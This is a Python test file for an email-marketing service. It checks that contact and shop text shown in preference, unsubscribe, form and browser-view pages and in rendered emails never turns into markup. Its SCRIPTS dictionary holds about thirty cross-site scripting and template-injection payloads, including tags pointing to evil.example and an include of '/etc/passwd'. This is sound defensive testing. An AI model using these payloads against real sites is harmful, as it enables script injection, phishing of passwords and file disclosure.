"""Text from contacts and shops stays text wherever it is shown."""

from collections.abc import Callable, Mapping, Sequence
from html.parser import HTMLParser
from typing import Any

import pytest

from functions.preferences.app import handler as preferences
from functions.trigger_form.app import handler as trigger_form
from functions.unsubscribe.app import handler as unsubscribe
from functions.view.app import handler as view
from milepost.contacts.event import contact_id
from milepost.sending.links import PreferencesLink, ViewLink, seal_preferences, sign_view_link
from milepost.templates.compile import compile_template
from milepost.templates.rendering import Renderer
from milepost.templates.version import TemplateVersion
from tests.support.builders import send, workflow
from tests.support.builders import shop as files_of
from tests.support.cloud import EMAIL, Cloud
from tests.support.handlers import run, tell, upload
from tests.support.visitors import form_post, look, press

Json = dict[str, Any]
Skeleton = list[tuple[str, tuple[str, ...]]]

SCRIPTS = {
    "script": "<script>alert(1)</script>",
    "script with a source": "<script src=//evil.example/x.js></script>",
    "upper case": "<SCRIPT>alert(1)</SCRIPT>",
    "nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "image": "<img src=x onerror=alert(1)>",
    "slashes for blanks": "<img/src=x/onerror=alert(1)>",
    "SVG": "<svg onload=alert(1)>",
    "MathML": "<math><mglyph><style><!--</style><img title='--><img src onerror=a>'>",
    "out of an attribute": '" onmouseover="alert(1)',
    "out of a quoted attribute": "' autofocus onfocus='alert(1)",
    "out of an attribute without quotes": "x onmouseover=alert(1)",
    "out of an element": '"><script>alert(1)</script>',
    "out of a title": "</title><script>alert(1)</script>",
    "out of a style": "</style><script>alert(1)</script>",
    "out of a textarea": "</textarea><script>alert(1)</script>",
    "out of a comment": "--><script>alert(1)</script><!--",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?>",
    "iframe": "<iframe srcdoc='<script>alert(1)</script>'>",
    "form": "<form action=https://evil.example><input name=password>",
    "base": "<base href=https://evil.example/>",
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "style sheet": "<link rel=stylesheet href=https://evil.example>",
    "expression": "<p style='background:url(javascript:alert(1))'>",
    "backquotes": "`onmouseover=alert(1)`",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "entities twice": "&amp;lt;script&amp;gt;",
    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "half a tag": "<script",
    "NUL in a tag": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "full-width brackets": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "template": "{{ 7*7 }}{% include '/etc/passwd' %}${7*7}",
    "right-to-left override": "\u202e<script>",
}

HARMLESS = "Anna"
THREES = [list(SCRIPTS)[number : number + 3] for number in range(0, len(SCRIPTS), 3)]


BODY = (
    '<html><body><h1 title="{{ event.note }}">{{ event.note }}</h1>'
    "<p title='{{ contact.first_name|default(1) }}'>{{ contact.properties.note|default(1) }}</p>"
    '<a href="{{ event.note }}">{{ store.name }}</a>'
    '<img src="{{ event.note }}" alt="{{ event.note }}" width="10">'
    "{% for product in event.products %}<p>{{ product.name|upper }}</p>{% endfor %}"
    '<p>{{ store.postal_address }} <a href="{{ urls.unsubscribe }}">x</a></p></body></html>'
)


class Reader(HTMLParser):
    """Collects the markup of a page: its tags and the names of their attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.seen: Skeleton = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, tuple(sorted(name for name, _ in attrs))))

    def handle_comment(self, data: str) -> None:
        self.seen.append(("comment", ()))

    def handle_pi(self, data: str) -> None:
        self.seen.append(("pi", ()))

    def unknown_decl(self, data: str) -> None:
        self.seen.append(("declaration", ()))


def skeleton(page: str) -> Skeleton:
    return Reader(page).seen


def pages(cloud: Cloud, text: str) -> Mapping[str, str]:
    """All pages of a store in which every user-provided value contains this text."""
    shop = cloud.open_shop()
    visit = workflow(
        {
            "id": "wait",
            "type": "delay_until",
            "date": "contact.properties.next_visit",
            "movable": {"en": text[:60]},
        },
        send("reminder"),
        on="Visited",
        category="transactional",
    )
    mailed = workflow(send("reminder", "told"), on="Told", category="transactional")
    told = {"templates/told/subject.txt": "Hi", "templates/told/body.html": BODY}
    upload(shop, {**files_of(visit=visit, told=mailed), **told})
    form = {"topics": ["news"], "consent_text": {"en": text}, "double_opt_in": True}
    shop.settings(
        name=text,
        topics={"offers": text, "news": text},
        postal_address=text,
        topic_titles={"en": {"offers": text}},
        forms={"footer": form},
    )
    properties = {"next_visit": "2031-05-01", "note": text}
    yes = {"topic": "offers", "state": "granted", "at": "2026-01-01T00:00:00Z"}
    person = {"email": EMAIL, "first_name": text[:200], "properties": properties, "consent": [yes]}
    tell(shop, "Visited", {"note": text}, contact=person)
    run(shop, "visit", "wait")
    tell(shop, "Told", {"note": text, "products": [{"name": text}]}, contact=person)
    run(shop, "told", "reminder")
    (message,) = (item["sk"]["S"].removeprefix("MESSAGE#") for item in shop.items("MESSAGE#"))
    again = sign_view_link(
        ViewLink(shop.store, contact_id(shop.store, "email", EMAIL), message), shop.links
    )
    contact = contact_id(shop.store, "email", EMAIL)
    wish = seal_preferences(
        PreferencesLink(shop.store, contact, f"{contact}-{'1' * 24}"), shop.links
    )
    no = shop.token(contact)
    gone = sign_view_link(ViewLink(shop.store, contact, f"{contact}-{'1' * 24}"), shop.links)

    def shown(handler: Callable[[Any, Any], Any], request: Json) -> str:
        answer = handler(request, None)
        assert answer["headers"]["content-type"].startswith("text/html"), answer
        assert "default-src 'none'" in answer["headers"]["content-security-policy"]
        assert answer["headers"]["x-content-type-options"] == "nosniff"
        return str(answer["body"])

    return {
        "preferences": shown(preferences, look(shop, wish)),
        "saved": shown(
            preferences, press(shop, wish, {"action": text, "reminder": text, "date": text})
        ),
        "unsubscribe": shown(unsubscribe, look(shop, no)),
        "unsubscribed": shown(unsubscribe, press(shop, no, {"scope": text})),
        "form": shown(trigger_form, form_post(shop, email=EMAIL, first_name=text, locale=text)),
        "no address": shown(trigger_form, form_post(shop, email=text)),
        "mail gone": shown(view, look(shop, gone)),
        "no link": shown(unsubscribe, look(shop, text)),
        "in the browser": shown(view, look(shop, again)),
    }


@pytest.fixture(scope="module")
def plain(cloud: Cloud) -> Mapping[str, Skeleton]:
    return {name: skeleton(page) for name, page in pages(cloud, HARMLESS).items()}


@pytest.mark.parametrize("hows", THREES, ids=", ".join)
def test_page_never_runs_stored_text(
    cloud: Cloud, plain: Mapping[str, Skeleton], hows: Sequence[str]
) -> None:
    shown = pages(cloud, " ".join(SCRIPTS[how] for how in hows))
    assert {name: skeleton(page) for name, page in shown.items()} == plain


def mail(text: str) -> str:
    files = {
        "subject.txt": "Hi {{ event.note }}",
        "preheader.txt": "{{ event.note }}",
        "body.html": BODY,
    }
    made = compile_template("test/mail", files, {}, "en", ["en"])
    assert isinstance(made, TemplateVersion), made
    context = {
        "contact": {"first_name": text, "properties": {"note": text}},
        "event": {"note": text, "products": [{"name": text}, {"name": text}]},
        "store": {"name": text, "postal_address": text},
        "urls": {"unsubscribe": "https://api.example/u"},
    }
    return Renderer(made).render(context, "en").html


@pytest.mark.parametrize("how", SCRIPTS)
def test_mail_contains_no_markup_from_data(how: str) -> None:
    assert skeleton(mail(SCRIPTS[how])) == skeleton(mail(HARMLESS))
